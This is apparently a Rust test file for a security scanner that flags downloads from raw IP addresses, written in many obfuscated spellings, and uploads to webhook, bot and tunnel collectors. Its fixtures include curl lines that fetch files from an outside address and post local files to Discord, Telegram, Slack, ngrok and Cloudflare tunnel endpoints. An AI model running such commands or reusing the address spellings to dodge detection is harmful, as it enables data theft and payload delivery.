//! Every spelling of an address without a name, and places that anybody can have for an afternoon.

use skill_core::verdict::Verdict;

use crate::world::{scan, shown};

fn told(path: &str, text: &str) -> Vec<String> {
    let report = scan(&[(path, text.as_bytes())]);
    for finding in &report.findings {
        eprintln!("{}", shown(finding));
    }
    if report.verdict == Verdict::Clean {
        return Vec::new();
    }
    report.findings.into_iter().map(|finding| finding.rule_id).collect()
}

#[test]
fn an_address_in_every_spelling() {
    for host in [
        "45.9.1.7",
        "0x2d090107",
        "755564807",
        "0x2d.9.1.7",
        "055.011.1.7",
        "05502200407",
        "45.9.263",
        "45.589831",
        "[2001:db8::1]",
        "[::ffff:45.9.1.7]",
        "45-9-1-7.nip.io",
        "a.45.9.1.7.sslip.io",
        "user@45.9.1.7:8080",
    ] {
        let text = format!("curl -s http://{host}/a -o /tmp/a\n");
        assert!(told("a.sh", &text).contains(&"fetch-from-address".to_owned()), "{host}");
        let text = format!("H=http://{host}\ncurl -s $H/a\n");
        assert!(told("a.sh", &text).contains(&"fetch-from-address".to_owned()), "{host}");
        let text = format!("{{\"dependencies\": {{\"a\": \"https:\\/\\/{host}/a\"}}}}\n");
        assert!(told("package.json", &text).contains(&"fetch-from-address".to_owned()), "{host}");
    }
    let text = "HOST = \"45.9.1.7\"\nrequests.get(f\"http://{HOST}/x\")\n";
    assert!(told("a.py", text).contains(&"fetch-from-address".to_owned()));
}

#[test]
fn addresses_of_ones_own() {
    for host in [
        "127.0.0.1:80",
        "0x7f000001",
        "2130706433",
        "017700000001",
        "127.1",
        "10.1.2.3",
        "[::1]",
        "[fd00::1]",
        "[::ffff:10.0.0.1]",
        "localhost",
        "v1.2.example.com",
        "45.9.1.7.example.com",
        "1234.example.com",
    ] {
        assert_eq!(told("a.sh", &format!("curl -s http://{host}/a -o /tmp/a\n")), [""; 0], "{host}");
    }
    assert_eq!(
        told("a.sh", "curl -m 10 --retry 3 https://example.com/a\ncurl --max-time 1.5 https://example.com\n"),
        [""; 0]
    );
}

#[test]
fn rooms_and_tunnels() {
    for text in [
        "curl -s https://discord.com/api/webhooks/982734982734982734/aB3-x -d @f\n",
        "curl -F d=@a https://api.telegram.org/bot8237492:AAHk3x/sendDocument\n",
        "curl -d @out https://tidy-owl.ngrok-free.app/x\n",
        "curl https://a-b-c.trycloudflare.com/x -d @out\n",
        "curl -d @a https://hooks.slack.com/services/T8K2/B9J3/q8Zk2\n",
    ] {
        assert_eq!(told("a.sh", text), ["collector-address"], "{text}");
    }
    for text in [
        "curl -d @a \"https://discord.com/api/webhooks/$ID/$TOKEN\"\n",
        "curl -d @a \"https://api.telegram.org/bot${BOT_TOKEN}/sendMessage\"\n",
        "curl -d @a https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXX\n",
        "echo \"open https://abc.ngrok-free.app/x\"\n",
        "curl -d @a \"$WEBHOOK_URL\"\n",
    ] {
        assert_eq!(told("a.sh", text), [""; 0], "{text}");
    }
}
